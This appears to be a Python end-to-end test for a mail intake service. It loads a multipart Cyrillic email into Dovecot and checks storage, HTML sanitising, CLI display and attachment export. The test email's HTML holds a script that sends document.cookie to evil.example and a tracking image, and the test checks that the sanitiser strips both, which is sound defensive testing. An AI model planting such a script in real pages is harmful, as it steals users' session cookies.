"""A mail APPENDed to Dovecot is loaded whole, and `mailintake emails` gives all of it back."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from email.message import EmailMessage
from email.utils import formatdate, make_msgid
from pathlib import Path
from typing import Any

import pytest

from shared.blobs import GridFsBlobStore
from shared.letter import BODY_INLINE_CHARS, body_text
from shared.store import Store
from tests.conftest import Mailbox
from tests.e2e.test_skeleton import TENANT, add_account, seed
from tests.processes import StageProcesses, wait_until
from tests.services import REPO

pytestmark = pytest.mark.e2e

Cli = Callable[..., subprocess.CompletedProcess[str]]

# About 40 KB of Cyrillic text, long lines and short ones: longer than a document keeps inline.
TEXT = "".join(
    f"Строка {i}: Здравствуйте! Подскажите, пожалуйста, когда придёт мой заказ? Ёлки.\n"
    for i in range(520)
)
LOGO = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4
PDF = b"%PDF-1.4\n" + bytes(range(256)) * 40
CSV = "артикул;количество\r\n42;1\r\n".encode()


def whole_letter() -> bytes:
    msg = EmailMessage()
    msg["From"] = "Ann <ann@example.com>"
    msg["To"] = (
        "Shop <shop@example.com>, =?utf-8?b?0J7RgtC00LXQuyDQv9GA0L7QtNCw0LY=?= <sales@example.com>"
    )
    msg["Cc"] = "boss@example.com"
    msg["Subject"] = "Где мой заказ?"
    msg["Date"] = formatdate(localtime=False)
    msg["Message-ID"] = make_msgid(domain="example.com")
    msg.set_content(TEXT)
    msg.add_alternative(
        '<html><body><p>Здравствуйте!</p><img src="cid:logo@shop" alt="logo">'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<img src="https://tracker.example/open.gif"></body></html>\n',
        subtype="html",
    )
    msg.get_payload()[1].add_related(
        LOGO, maintype="image", subtype="png", cid="<logo@shop>", disposition="inline"
    )
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="счёт.pdf")
    msg.add_attachment(CSV, maintype="text", subtype="csv", filename="order.csv")
    return msg.as_bytes()


def server_copy(mailbox: Mailbox) -> bytes:
    """The message as Dovecot holds it, read back over IMAP."""
    client = mailbox.connect()
    try:
        client.select("INBOX", readonly=True)
        _typ, data = client.uid("FETCH", "1:*", "(BODY.PEEK[])")
    finally:
        client.logout()
    [(_head, raw)] = [item for item in data if isinstance(item, tuple)]
    return bytes(raw)


def test_a_loaded_mail_is_kept_whole_and_shown_by_the_command(
    tmp_path: Path,
    cli: Cli,
    stage_env: dict[str, str],
    mailbox: Mailbox,
    store: Store,
    stages: StageProcesses,
) -> None:
    seed(tmp_path, cli)
    add_account(cli, mailbox)
    stages.start("fetcher", "binder", "assigner", "notifier")
    mailbox.append(whole_letter())
    wait_until(
        lambda: store.emails.find_one({"tenant_id": TENANT, "status": "bound"}),
        timeout=60,
        what="the bound mail",
        on_timeout=stages.logs,
    )
    [doc] = list(store.emails.find({"tenant_id": TENANT}))
    safe = check_document(doc, GridFsBlobStore(store))

    command = [sys.executable, "-m", "ops.cli", "emails", "show", doc["_id"], "--raw"]
    raw = subprocess.run(
        [*command, "--tenant", TENANT], cwd=REPO, env=stage_env, capture_output=True, check=True
    ).stdout
    assert raw == server_copy(mailbox)  # byte for byte what the server holds
    check_show(cli, doc["_id"], safe)
    check_attachments(cli, doc["_id"], tmp_path)


def check_document(doc: dict[str, Any], blobs: GridFsBlobStore) -> str:
    """The stored letter: text, safe HTML whose cid: image is a stored part, parts, recipients;
    the sanitised HTML."""
    assert len(TEXT) > BODY_INLINE_CHARS and doc["body"]["text_ref"] is not None
    assert body_text(doc, "text", blobs) == TEXT
    safe = body_text(doc, "html_safe", blobs) or ""
    assert "<script" not in safe and "evil.example" not in safe and "tracker" not in safe
    assert 'src="cid:logo@shop"' in safe
    [logo] = [p for p in doc["attachments"] if p["content_id"] == "logo@shop"]
    assert blobs.get_own(TENANT, logo["ref"]) == LOGO
    assert [(p["filename"], p["disposition"]) for p in doc["attachments"]] == [
        (None, "inline"),
        ("счёт.pdf", "attachment"),
        ("order.csv", "attachment"),
    ]
    assert [box["address"] for box in doc["to"]] == ["shop@example.com", "sales@example.com"]
    assert doc["to"][1]["name"] == "Отдел продаж"
    return safe


def check_show(cli: Cli, email_id: str, safe: str) -> None:
    shown = cli("emails", "show", email_id, "--tenant", TENANT).stdout
    assert "Ann <ann@example.com>" in shown and "Отдел продаж <sales@example.com>" in shown
    assert "Где мой заказ?" in shown and "bound by sender" in shown
    assert "счёт.pdf" in shown and "cid:logo@shop" in shown
    assert shown.endswith(TEXT)
    assert cli("emails", "show", email_id, "--tenant", TENANT, "--text").stdout == TEXT
    html = cli("emails", "show", email_id, "--tenant", TENANT, "--html").stdout
    assert html.rstrip("\n") == safe.rstrip("\n")
    letter = json.loads(cli("emails", "show", email_id, "--tenant", TENANT, "--json").stdout)
    assert letter["text"] == TEXT and letter["html_safe"] == safe
    assert letter["cc"] == [{"address": "boss@example.com", "name": None}]
    other = cli("emails", "show", email_id, "--tenant", "someone-else", check=False)
    assert other.returncode == 2 and "no e-mail" in other.stderr


def check_attachments(cli: Cli, email_id: str, tmp_path: Path) -> None:
    for index, content in ((1, PDF), (2, CSV)):
        out = tmp_path / f"part{index}"
        cli("emails", "attachment", email_id, str(index), "-o", str(out), "--tenant", TENANT)
        assert out.read_bytes() == content
    for args, error in (
        ((email_id, "7", "-o", str(tmp_path / "x")), "no part 7 (its parts are 0 to 2)"),
        ((email_id, "one", "-o", str(tmp_path / "x")), "part index 'one' is not a number"),
        (("nope", "1", "-o", str(tmp_path / "x")), "no e-mail 'nope'"),
        ((email_id, "1", "-o", "/no/such/dir/x"), "cannot write /no/such/dir/x"),
    ):
        failed = cli("emails", "attachment", *args, "--tenant", TENANT, check=False)
        assert failed.returncode == 2 and error in failed.stderr
        assert failed.stderr.count("\n") == 1
